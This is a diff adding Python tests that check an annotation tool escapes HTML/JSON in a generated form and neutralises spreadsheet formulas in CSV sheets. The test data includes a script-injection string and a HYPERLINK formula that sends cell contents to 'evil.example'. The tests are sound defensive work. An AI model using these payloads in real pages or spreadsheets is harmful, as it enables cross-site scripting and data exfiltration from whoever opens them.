@@ -170,6 +170,38 @@ def test_the_form_offers_the_units_the_judges_chose_from_not_only_the_sampled_it
     assert payload["units"] == units
 
 
+HOSTILE_TEXTS = ["Explain <!-- a comment", "Close </script><script>alert(1)</script> early",
+                 "Open <script> and <!-- then -->", "A & B > C \u2028 line \u2029 para"]
+
+
+def test_the_form_embeds_texts_that_look_like_html_as_json_the_page_can_parse():
+    """``<!--`` was embedded as ``<\\!--`` (not JSON: the form never rendered); now every text
+    reads back as it was and no ``<`` reaches the script element's raw text."""
+    import subprocess
+    import shutil
+
+    votes = _votes("m", "cot", n=len(HOSTILE_TEXTS) + 1)
+    votes.loc[1:, "new_question"] = HOSTILE_TEXTS
+    votes.loc[1:, "original_question"] = HOSTILE_TEXTS
+    items = annotation_items([votes], items_per_cell=len(HOSTILE_TEXTS), seed=0, knowledge_units=UNITS)
+    html = render_form(items, title="<!-- title </script>")
+    for element in ("payload", "meta"):
+        raw = html.split(f'id="{element}">', 1)[1].split("</script>", 1)[0]
+        assert "<" not in raw and ">" not in raw and "\u2028" not in raw
+        value = json.loads(raw)
+        if element == "payload":
+            assert sorted(item["question"] for item in value["items"]) == sorted(HOSTILE_TEXTS)
+            assert sorted(item["original"] for item in value["items"]) == sorted(HOSTILE_TEXTS)
+        else:
+            assert value["title"] == "<!-- title </script>"
+        node = shutil.which("node")
+        if node:  # the browser's own parser, where one is installed
+            parsed = subprocess.run([node, "-e", "process.stdout.write(JSON.stringify(JSON.parse("
+                                     "require('fs').readFileSync(0, 'utf8'))))"],
+                                    input=raw, capture_output=True, text=True, check=True).stdout
+            assert json.loads(parsed) == value
+
+
 def test_an_original_unit_outside_the_list_is_refused():
     with pytest.raises(ValueError, match="not in dataset 'cs'"):
         annotation_items([_votes("m", "cot")], items_per_cell=3, seed=0, knowledge_units={"cs": ["Queues"]})
@@ -226,6 +258,58 @@ def test_a_cell_over_the_csv_field_limit_names_file_and_row(tmp_path, key):
     path = _write_sheet(tmp_path / "huge.csv", key, {second: {**FULL, "knowledge_units": "x" * 5_000_000}}, "ann1")
     with pytest.raises(AnnotationError, match=r"huge\.csv: row 3: cannot be read as CSV .*at most 131072 characters"):
         read_sheets([path], key)
+
+
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A2)", "\tTabbed",
+                 "\rReturn", "'quoted", "''twice", "'=marked already", "'plain", "plain", "a=b"]
+
+
+def test_sheet_cells_that_a_spreadsheet_would_run_are_marked_and_read_back_exactly(tmp_path, key):
+    """Texts beginning with = + - @ tab CR or ' are written behind a ' (so a spreadsheet shows
+    text) by the blank sheet and the form's download alike; the import drops that mark only."""
+    import csv
+    import shutil
+    import subprocess
+
+    from bloomqg.annotation.form import sheet_cell, sheet_text, write_blank_sheet
+
+    marked = [sheet_cell(text) for text in FORMULA_TEXTS]
+    assert [cell[0] for cell in marked[:-2]] == ["'"] * (len(FORMULA_TEXTS) - 2) and marked[-2:] == FORMULA_TEXTS[-2:]
+    assert [sheet_text(cell) for cell in marked] == FORMULA_TEXTS
+    # The blank sheet: a generated question and an original that begin like formulas are marked.
+    hostile = key.copy()
+    hostile["new_question"] = FORMULA_TEXTS[:len(hostile)]
+    hostile["original_question"] = list(reversed(FORMULA_TEXTS))[:len(hostile)]
+    sheet_path = tmp_path / "blank.csv"
+    write_blank_sheet(hostile, sheet_path)
+    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
+        cells = list(csv.DictReader(handle))
+    for row, item in zip(cells, hostile.itertuples(index=False)):
+        for column, text in (("new_question", item.new_question), ("original_question", item.original_question)):
+            assert row[column][0] not in "=+-@\t\r" and row[column] == sheet_cell(text)
+    # Filled in (a note that begins like a formula too) and imported: every text as it was.
+    with sheet_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    header = rows[0]
+    first = rows[1]
+    for column, value in {**FULL, "annotator": "ann1", "notes": sheet_cell("=1+1 looks odd")}.items():
+        first[header.index(column)] = value
+    with (tmp_path / "filled.csv").open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    ratings = read_sheets([tmp_path / "filled.csv"], hostile)
+    assert set(ratings["notes"]) == {"=1+1 looks odd"}
+    # The form's download uses the same rule: its sheetCell, run in Node where it is installed.
+    node = shutil.which("node")
+    if node:
+        html = render_form(hostile, title="t")
+        meta = html.split('id="meta">', 1)[1].split("</script>", 1)[0]
+        function = next(line for line in html.splitlines() if "function sheetCell(" in line)
+        script = (f"const meta = JSON.parse({json.dumps(meta)});\n{function}\n"
+                  "const texts = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
+                  "process.stdout.write(JSON.stringify(texts.map(sheetCell)));")
+        shown = subprocess.run([node, "-e", script], input=json.dumps(FORMULA_TEXTS), capture_output=True,
+                               text=True, check=True).stdout
+        assert json.loads(shown) == marked
 
 
 def test_unknown_item_and_repeated_annotator_are_errors(tmp_path, key):
